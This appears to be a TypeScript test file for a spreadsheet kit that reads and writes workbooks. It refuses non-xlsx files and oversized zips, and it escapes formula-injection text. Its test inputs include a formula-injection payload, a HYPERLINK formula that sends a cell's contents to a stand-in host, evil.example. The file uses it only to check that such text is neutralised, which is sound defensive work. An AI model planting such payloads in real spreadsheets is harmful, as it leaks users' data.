// The spreadsheet kit (src/domains/shared/sheets): reading a workbook's rows
// as text, refusing what is not one (or would unpack to far more than it
// weighs), matching an import's columns by their titles, and writing one.
import { describe, expect, test } from "bun:test";
import { deflateRawSync } from "node:zlib";
import * as XLSX from "xlsx";
import { recordsOf } from "../../src/domains/shared/sheets/imports";
import { escapeFormula, readRows, unescapeFormula, unpackedSize, writeWorkbook } from "../../src/domains/shared/sheets/workbook";
import { DomainError } from "../../src/protocol/result";
import { formulaCells, reopenedAsCsv } from "../helpers/sheets";

const book = (rows: unknown[][], type: "xlsx" | "xls" | "ods" = "xlsx") => {
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(rows), "S");
  return new Uint8Array(XLSX.write(wb, { type: "array", bookType: type }) as ArrayBuffer);
};

const refusal = (run: () => unknown): Record<string, unknown> | null => {
  try {
    run();
  } catch (error) {
    if (error instanceof DomainError) return { code: error.code, ...error.params };
    throw error;
  }
  return null;
};

/** A zip of one stored entry whose directory declares `declared` bytes unpacked. */
function zipDeclaring(declared: number): Uint8Array {
  const name = Buffer.from("xl/worksheets/sheet1.xml");
  const data = deflateRawSync(Buffer.alloc(1000));
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(declared, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(declared, 24);
  central.writeUInt16LE(name.length, 28);
  const cdOffset = local.length + name.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(cdOffset, 16);
  return new Uint8Array(Buffer.concat([local, name, data, central, name, end]));
}

describe("reading", () => {
  test("rows come as trimmed text, numbers without exponent, empty rows left out but counted", () => {
    const rows = readRows(book([["订单号", "单号"], [" A1 ", 773012345678], [], [12.5, null], ["=1+1", true]]), { maxRows: 10 });
    expect(rows).toEqual([
      { line: 1, cells: ["订单号", "单号"] },
      { line: 2, cells: ["A1", "773012345678"] },
      { line: 4, cells: ["12.5", ""] },
      { line: 5, cells: ["=1+1", "true"] },
    ]);
  });

  test("what is not an xlsx workbook is refused as a wrong type", () => {
    expect(refusal(() => readRows(new TextEncoder().encode("a,b\n1,2"), { maxRows: 10 }))).toEqual({ code: "ERROR_PARAMS", reason: "type" });
    expect(refusal(() => readRows(new Uint8Array([0x50, 0x4b, 0x03, 0x04, 1, 2, 3]), { maxRows: 10 }))).toEqual({ code: "ERROR_PARAMS", reason: "type" });
    // An OpenDocument sheet is a zip too, and SheetJS reads it: it is still not xlsx.
    expect(refusal(() => readRows(book([["a"], ["b"]], "ods"), { maxRows: 10 }))).toEqual({ code: "ERROR_PARAMS", reason: "type" });
  });

  test("a zip declaring more than 64 MB unpacked is refused before anything is unpacked", () => {
    expect(unpackedSize(zipDeclaring(1000))).toBe(1000);
    expect(refusal(() => readRows(zipDeclaring(2_000_000_000), { maxRows: 10 }))).toEqual({ code: "ERROR_PARAMS", reason: "size", max: 64 * 1024 * 1024 });
    expect(unpackedSize(book([["a"]]))).toBeGreaterThan(0);
  });

  test("past the row limit the file is refused as a whole", () => {
    const rows = [["订单号"], ...Array.from({ length: 6 }, (_, i) => [`A${i}`])];
    expect(readRows(book(rows), { maxRows: 6 })).toHaveLength(7);
    expect(refusal(() => readRows(book(rows), { maxRows: 5 }))).toEqual({ code: "ERROR_PARAMS", reason: "rows", max: 5 });
  });
});

describe("an import's columns", () => {
  const columns = [
    { key: "trade", zh: "订单号", en: "Order number", required: true, aliases: ["子订单号"] },
    { key: "note", zh: "备注", en: "Note", required: false },
  ] as const;

  test("found by either title or an alias, whatever the case and spaces, in any order; a missing optional one is empty", () => {
    const { header, records } = recordsOf(book([["x", "ORDER  NUMBER"], ["1", "A1"]]), columns);
    expect(header).toEqual(["x", "ORDER  NUMBER"]);
    expect(records).toEqual([{ line: 2, cells: ["1", "A1"], values: { trade: "A1", note: "" } }]);
    expect(recordsOf(book([["备注", "子订单号"], ["n", "A1-1"]]), columns).records[0]!.values).toEqual({ trade: "A1-1", note: "n" });
  });

  test("a required column missing, or no data row, refuses the file", () => {
    expect(refusal(() => recordsOf(book([["备注"], ["n"]]), columns))).toEqual({ code: "ERROR_PARAMS", reason: "columns", missing: ["trade"] });
    expect(refusal(() => recordsOf(book([["订单号"]]), columns))).toEqual({ code: "ERROR_PARAMS", reason: "empty" });
  });
});

describe("writing", () => {
  test("a workbook reads back cell for cell: text stays text (a formula quoted), numbers and money with 2 decimals, empty text an empty cell", () => {
    const bytes = writeWorkbook([{ name: "订单/Orders?", rows: [["A", "B", "C", "D"], ["=HYPERLINK(\"x\")", 3, { t: "n", v: 8.8, z: "0.00" }, ""]], widths: [10, 10, 10, 10] }]);
    const wb = XLSX.read(bytes, { type: "array", cellFormula: true });
    expect(wb.SheetNames).toEqual(["订单 Orders "]);
    const sheet = wb.Sheets[wb.SheetNames[0]!]!;
    expect(sheet.A2).toMatchObject({ t: "s", v: `'=HYPERLINK("x")` });
    expect(sheet.A2.f).toBeUndefined();
    expect(sheet.B2).toMatchObject({ t: "n", v: 3 });
    expect(sheet.C2).toMatchObject({ t: "n", v: 8.8, w: "8.80" });
    expect(sheet.D2).toBeUndefined();
    expect(readRows(bytes, { maxRows: 10 }).map((r) => r.cells)).toEqual([["A", "B", "C", "D"], ['=HYPERLINK("x")', "3", "8.8", ""]]);
  });
});

describe("text a spreadsheet would read as a formula", () => {
  // OWASP "CSV Injection": a cell starting =, +, -, @, tab or carriage return (and the line feed an
  // export writes for one) is a formula once the sheet is saved as CSV or the cell edited; a leading
  // single quote keeps it text.
  const TRIGGERS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+86 138 0013 8000", "-", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1"];

  test("is written with one leading quote, and read back without it", () => {
    for (const text of TRIGGERS) {
      expect(escapeFormula(text)).toBe(`'${text}`);
      expect(unescapeFormula(`'${text}`)).toBe(text);
    }
  });

  test("a text that really starts with quotes and then a trigger gets one more quote, so it comes back exactly", () => {
    expect(escapeFormula("'=1+1")).toBe("''=1+1");
    expect(unescapeFormula("''=1+1")).toBe("'=1+1");
    expect(escapeFormula("''-")).toBe("'''-");
    expect(unescapeFormula("'''-")).toBe("''-");
  });

  test("any other text is left as it is, both ways", () => {
    for (const text of ["陈会员", "13900000001", "'quoted", "'", "''", "", "a=b", " =1", "x-", "'a=b"]) {
      expect(escapeFormula(text)).toBe(text);
      expect(unescapeFormula(text)).toBe(text);
    }
  });

  test("every short text of quotes, triggers and a letter comes back exactly, and nothing written starts with a trigger", () => {
    const alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "\n", "a"];
    const texts = [""];
    for (let from = 0; texts[from] !== undefined && texts[from]!.length < 4; from++) texts.push(...alphabet.map((c) => texts[from] + c));
    expect(texts.length).toBe(1 + 9 + 81 + 729 + 6561);
    for (const text of texts) {
      const written = escapeFormula(text);
      expect({ text, back: unescapeFormula(written), trigger: /^[=+\-@\t\r\n]/.test(written) }).toEqual({ text, back: text, trigger: false });
    }
  });

  test("a written workbook holds the quoted text and no formula, numbers (a negative one too) as numbers; its CSV keeps the quote; read back, the texts", () => {
    const texts = [...TRIGGERS, "'=1+1", "'quoted", "陈会员"];
    const bytes = writeWorkbook([{ name: "S", rows: [["=A1", "+B"], ...texts.map((text) => [text, -5])] }]);
    const sheet = XLSX.read(bytes, { type: "array", cellFormula: true }).Sheets.S!;
    expect(formulaCells(sheet)).toEqual([]);
    // A carriage return is written as a line feed, a spreadsheet's line break in a cell.
    const written = texts.map((text) => (text === "'quoted" || text === "陈会员" ? text : `'${text.replace("\r", "\n")}`));
    expect(XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true })).toEqual([["'=A1", "'+B"], ...written.map((text) => [text, -5])]);
    expect(sheet.B2).toMatchObject({ t: "n", v: -5 });
    // Saved as CSV and opened again: nothing is a formula, and each field keeps its quote.
    const csv = reopenedAsCsv(sheet);
    expect(csv.formulas).toEqual([]);
    expect(csv.rows.map((row) => row[0])).toEqual(["'=A1", ...written]);
    // Read as an import reads it: the original texts (a leading tab too: the quote kept it from the trim).
    expect(readRows(bytes, { maxRows: 20 }).map((r) => r.cells)).toEqual([["=A1", "+B"], ...texts.map((text) => [text.replace("\r", "\n"), "-5"])]);
  });

  test("a carriage return inside a text cannot start a CSV row: it is written as a line feed, which every CSV writer quotes", () => {
    const bytes = writeWorkbook([{ name: "S", rows: [["a"], ["x\r=1+1"], ["y\r\n@SUM(1)"]] }]);
    const sheet = XLSX.read(bytes, { type: "array", cellFormula: true }).Sheets.S!;
    const csv = reopenedAsCsv(sheet);
    expect(csv.formulas).toEqual([]);
    expect(csv.rows).toEqual([["a"], ["x\n=1+1"], ["y\n@SUM(1)"]]);
    expect(readRows(bytes, { maxRows: 10 }).map((r) => r.cells[0])).toEqual(["a", "x\n=1+1", "y\n@SUM(1)"]);
  });

  test("a sheet staff typed themselves: a quote before a trigger goes, any other quote stays, a negative number stays a number", () => {
    const rows = readRows(book([["a"], ["'=1+1"], ["'+8613800138000"], ["'quoted"], [-5], ["-5"]]), { maxRows: 10 });
    expect(rows.map((r) => r.cells[0])).toEqual(["a", "=1+1", "+8613800138000", "'quoted", "-5", "-5"]);
  });
});
